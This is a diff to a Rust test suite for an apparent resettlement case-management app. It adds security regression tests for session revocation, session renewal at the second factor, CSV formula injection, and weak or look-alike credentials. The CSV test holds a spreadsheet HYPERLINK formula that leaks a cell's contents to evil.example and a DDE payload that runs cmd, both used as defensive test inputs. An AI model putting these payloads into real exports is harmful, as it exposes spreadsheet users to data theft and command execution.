@@ -121,14 +121,11 @@ async fn reads_writes_refusals_and_sign_ins_are_audited_with_special_fields() {
             .login("case-officer", DEMO_PASSWORD, "10.0.0.1")
             .await
             .unwrap();
-        app.second_factor(&officer.cookie, &code(&app), "10.0.0.1")
+        let cookie = app
+            .second_factor(&officer.cookie, &code(&app), "10.0.0.1")
             .await
             .unwrap();
-        let caller = app
-            .session(&officer.cookie, "10.0.0.1")
-            .await
-            .unwrap()
-            .caller;
+        let caller = app.session(&cookie, "10.0.0.1").await.unwrap().caller;
         let n = app
             .list_cases(&caller, &Default::default())
             .await
@@ -310,9 +307,9 @@ async fn sessions_end_when_idle_and_at_logout_and_need_the_second_factor() {
             app.second_factor(&s.cookie, "000000", "t").await.is_err() || code(&app) == "000000"
         );
         let c = code(&app);
-        app.second_factor(&s.cookie, &c, "t").await.unwrap();
+        let renewed = app.second_factor(&s.cookie, &c, "t").await.unwrap();
         assert!(
-            !app.session(&s.cookie, "t")
+            !app.session(&renewed, "t")
                 .await
                 .unwrap()
                 .needs_second_factor
@@ -552,10 +549,11 @@ async fn guessing_the_second_factor_locks_the_account_at_every_step() {
         // Five minutes on, the owner signs in with a right code; the count starts again.
         clock.advance(time::Duration::minutes(6));
         let s = app.login(user, DEMO_PASSWORD, "owner").await.unwrap();
-        app.second_factor(&s.cookie, &code(&app), "owner")
+        let cookie = app
+            .second_factor(&s.cookie, &code(&app), "owner")
             .await
             .unwrap();
-        assert!(app.session(&s.cookie, "owner").await.is_ok());
+        assert!(app.session(&cookie, "owner").await.is_ok());
     }
 }
 
@@ -680,6 +678,101 @@ async fn bad_tokens_cannot_flood_the_audit_trail() {
     }
 }
 
+/// A user signed in on a session and holding a token, as a thief who took both would.
+async fn session_and_token(app: &App, user: &str, password: &str) -> (String, String) {
+    let s = app.login(user, password, "thief").await.unwrap();
+    let token = app
+        .create_token(&Caller::operator(), user, None, None)
+        .await
+        .unwrap();
+    (s.cookie, token)
+}
+
+/// Asserts that neither the cookie nor the token opens anything any more.
+async fn assert_cut_off(app: &App, (cookie, token): &(String, String), after: &str) {
+    assert!(
+        app.session(cookie, "thief").await.is_err(),
+        "the session outlived {after}"
+    );
+    assert!(
+        app.authenticate_token(token, "thief").await.is_err(),
+        "the token outlived {after}"
+    );
+}
+
+/// Attack: a thief holds a user's session cookie and API token; the administrator resets
+/// the password after the theft, or moves the user to another role, or disables the
+/// account. Before, the cookie and the token went on working after a reset (and a role
+/// change had no command: only SQL). Now each change ends every session and revokes every
+/// token of the user in the change's own transaction, and the trail says how many.
+#[tokio::test]
+async fn a_reset_role_change_or_disable_ends_every_session_and_token() {
+    for db in resettle_testkit::databases() {
+        // Password only, so that one clock tick allows any number of sign-ins.
+        let app = demo_app(&db.url).await.with_security(Security {
+            second_factor_roles: Vec::new(),
+            ..Security::default()
+        });
+        let op = Caller::operator();
+        let user = "case-officer";
+        let stolen = session_and_token(&app, user, DEMO_PASSWORD).await;
+        app.reset_password(&op, user, "a brand new passphrase")
+            .await
+            .unwrap();
+        assert_cut_off(&app, &stolen, "a password reset").await;
+        let stolen = session_and_token(&app, user, "a brand new passphrase").await;
+        app.change_roles(&op, user, "reception-officer")
+            .await
+            .unwrap();
+        assert_cut_off(&app, &stolen, "a role change").await;
+        let fresh = session_and_token(&app, user, "a brand new passphrase").await;
+        assert_eq!(
+            app.session(&fresh.0, "t").await.unwrap().caller.roles,
+            [Role::ReceptionOfficer],
+            "{}: a new sign-in carries the new roles",
+            db.backend
+        );
+        app.disable_user(&op, user).await.unwrap();
+        assert_cut_off(&app, &fresh, "disabling").await;
+        let pool = raw(&db.url).await;
+        let live: i64 = sqlx::query(
+            "SELECT (SELECT COUNT(*) FROM sessions s JOIN users u ON u.id = s.user_id \
+                     WHERE u.username = $1 AND s.ended_at IS NULL) \
+                  + (SELECT COUNT(*) FROM api_tokens t JOIN users u ON u.id = t.user_id \
+                     WHERE u.username = $1 AND t.revoked_at IS NULL)",
+        )
+        .bind(user)
+        .fetch_one(&pool)
+        .await
+        .unwrap()
+        .try_get(0)
+        .unwrap();
+        assert_eq!(live, 0, "{}: nothing revives on re-enabling", db.backend);
+        let details: Vec<String> = sqlx::query(
+            "SELECT detail FROM audit_log WHERE entity = 'user' AND entity_id = $1 \
+             AND action = 'write' AND detail NOT LIKE 'added%' ORDER BY seq",
+        )
+        .bind(user)
+        .fetch_all(&pool)
+        .await
+        .unwrap()
+        .iter()
+        .map(|r| r.try_get(0).unwrap())
+        .collect();
+        assert_eq!(
+            details,
+            [
+                "password reset; 1 session(s) ended, 1 token(s) revoked",
+                "roles set to reception-officer; 1 session(s) ended, 1 token(s) revoked",
+                "disabled; 1 session(s) ended, 1 token(s) revoked",
+            ],
+            "{}",
+            db.backend
+        );
+        pool.close().await;
+    }
+}
+
 /// A script trying passwords from one address is held to twenty attempts a minute; a
 /// person at another address is not held back.
 #[tokio::test]
@@ -702,4 +795,195 @@ async fn sign_in_attempts_are_limited_per_address() {
                 .is_ok()
         );
     }
+}
+/// Attack: session fixation across the second factor. Whoever saw the half-signed-in
+/// cookie and its CSRF token (planted it, or read it before the code was typed) held them
+/// after the user's code too: before, a right code only flagged the same session. Now it
+/// moves the session to a new cookie and a new CSRF token; the old pair opens nothing.
+#[tokio::test]
+async fn the_second_factor_renews_the_session_cookie_and_csrf_token() {
+    for db in resettle_testkit::databases() {
+        let app = demo_app(&db.url).await;
+        let half = app
+            .login("medical-officer", DEMO_PASSWORD, "t")
+            .await
+            .unwrap();
+        let half_csrf = app.session(&half.cookie, "t").await.unwrap().csrf_token;
+        let renewed = app
+            .second_factor(&half.cookie, &code(&app), "t")
+            .await
+            .unwrap();
+        assert_ne!(renewed, half.cookie, "{}", db.backend);
+        assert!(
+            app.session(&half.cookie, "t").await.is_err(),
+            "{}: the half-signed-in cookie still opens a session",
+            db.backend
+        );
+        let full = app.session(&renewed, "t").await.unwrap();
+        assert!(!full.needs_second_factor, "{}", db.backend);
+        assert_ne!(
+            full.csrf_token, half_csrf,
+            "{}: the CSRF token is new",
+            db.backend
+        );
+    }
+}
+
+/// The cells of a CSV document, header included.
+fn csv_cells(document: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(document.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+/// Attack: text an outsider controls reaches a spreadsheet as a live formula. A failed
+/// sign-in as `=HYPERLINK(…)` lands in the auditor's export; a pledge's source in the
+/// public pledges CSV. Before, both went out as typed and the spreadsheet ran them. Now
+/// every cell that would start a formula leaves with a `'` in front, while a negative gap
+/// stays a number.
+#[tokio::test]
+async fn exported_csv_cells_never_start_a_spreadsheet_formula() {
+    const LINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")";
+    const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
+    for db in resettle_testkit::databases() {
+        let app = demo_app(&db.url).await;
+        let op = Caller::operator();
+        assert!(app.login(LINK, "whatever it is", "attacker").await.is_err());
+        let auditor = caller_of(&app, "auditor").await;
+        let trail = app.audit_csv(&auditor, &Default::default()).await.unwrap();
+        let trail = csv_cells(&trail);
+        assert!(
+            trail.iter().flatten().any(|c| *c == format!("'{LINK}")),
+            "{}: the name is exported, neutralised",
+            db.backend
+        );
+        app.set_pledge(
+            &op,
+            "BE",
+            &resettle_domain::programme::Pledge {
+                year: 2001,
+                pledged: 5,
+                arrived_before_resettle: Some(17),
+                source: DDE.into(),
+            },
+        )
+        .await
+        .unwrap();
+        let pledges = csv_cells(&app.pledges_csv("BE").await.unwrap());
+        let row = pledges
+            .iter()
+            .find(|r| r[0] == "2001")
+            .expect("the 2001 pledge");
+        assert_eq!(
+            row[3], "-12",
+            "{}: a negative gap stays a number",
+            db.backend
+        );
+        assert_eq!(row[4], format!("'{DDE}"), "{}", db.backend);
+        for cell in trail.iter().chain(&pledges).flatten() {
+            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                || (cell.starts_with('-') && cell.parse::<i64>().is_err());
+            assert!(
+                !formula,
+                "{}: {cell:?} would run in a spreadsheet",
+                db.backend
+            );
+        }
+    }
+}
+
+/// Attack: weak passwords and look-alike names. Before, twelve spaces, `aaaaaaaaaaaa` and
+/// `qwerty123456` were accepted as passwords, and `Case-Officer` could be added beside
+/// `case-officer` (a second account the trail would show as "the case officer"). Now each
+/// is refused naming the field and the reason, and the database itself refuses a name
+/// that differs from another only in case.
+#[tokio::test]
+async fn weak_passwords_and_look_alike_user_names_are_refused() {
+    for db in resettle_testkit::databases() {
+        let app = demo_app(&db.url).await;
+        let op = Caller::operator();
+        for (password, reason) in [
+            ("            ", "12 characters"),
+            ("aaaaaaaaaaaa", "one character repeated"),
+            ("Qwerty123456", "commonly used"),
+        ] {
+            let e = app
+                .add_user(&op, "newcomer", "planner", None, password)
+                .await
+                .unwrap_err();
+            assert!(
+                matches!(e, AppError::Invalid(_)) && e.to_string().contains(reason),
+                "{}: {password:?}: {e}",
+                db.backend
+            );
+            let e = app
+                .reset_password(&op, "planner", password)
+                .await
+                .unwrap_err();
+            assert!(e.to_string().contains("password: "), "{}: {e}", db.backend);
+        }
+        for look_alike in ["Case-Officer", "CASE-OFFICER", "cаse-officer"] {
+            let e = app
+                .add_user(
+                    &op,
+                    look_alike,
+                    "case-officer",
+                    None,
+                    "a phrase of several words",
+                )
+                .await
+                .unwrap_err();
+            assert!(
+                e.to_string().contains("case-officer") || e.to_string().contains("username:"),
+                "{}: {look_alike:?} was added: {e}",
+                db.backend
+            );
+        }
+        app.add_user(
+            &op,
+            "New.Comer",
+            "planner",
+            None,
+            "a phrase of several words",
+        )
+        .await
+        .unwrap();
+        assert!(
+            app.login("new.comer", "a phrase of several words", "t")
+                .await
+                .is_ok(),
+            "{}: names are stored lowercase",
+            db.backend
+        );
+        let pool = raw(&db.url).await;
+        let sneaked = sqlx::query(
+            "INSERT INTO users (username, roles, password_hash, disabled, created_at) \
+             VALUES ('PLANNER', 'admin', 'x', 0, '2020-01-01T00:00:00Z')",
+        )
+        .execute(&pool)
+        .await;
+        assert!(
+            sneaked.is_err(),
+            "{}: the database refuses a name differing only in case",
+            db.backend
+        );
+        pool.close().await;
+    }
+}
+
+/// User names are stored lowercase, so the sign-in form finds a user whatever case and
+/// surrounding spaces were typed.
+#[tokio::test]
+async fn sign_in_finds_a_user_whatever_the_case_typed() {
+    let db = resettle_testkit::sqlite();
+    let app = demo_app(&db.url).await;
+    let s = app
+        .login(" Planner ", DEMO_PASSWORD, "192.0.2.3")
+        .await
+        .unwrap();
+    let session = app.session(&s.cookie, "192.0.2.3").await.unwrap();
+    assert_eq!(session.caller.username, "planner");
 }
